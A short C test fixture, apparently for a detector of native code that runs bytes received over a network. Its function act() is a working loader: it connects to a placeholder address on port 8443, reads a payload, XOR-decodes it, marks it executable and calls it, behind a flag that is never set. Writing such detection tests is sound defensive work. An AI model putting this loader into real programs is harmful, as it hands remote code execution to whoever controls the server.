/* What a connection brings is called, in a static program without names too.
 * expect: native-received-code-called
 * flags: -O2
 * flags: -O2 -s -static
 * flags: -O2 -s -static-pie
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8443)};
    to.sin_addr.s_addr = inet_addr("203.0.113.77");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to)) return 1;
    unsigned len = 0, at = 0;
    read(s, &len, 4);
    unsigned char *room = mmap(0, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (ssize_t n; at < len && (n = read(s, room + at, len - at)) > 0;) at += n;
    for (unsigned i = 0; i < len; i++) room[i] ^= 0x5a;
    mprotect(room, len, PROT_READ | PROT_EXEC);
    ((void (*)(int))room)(s);
    return 0;
}

int main(void) { return never ? act() : 0; }
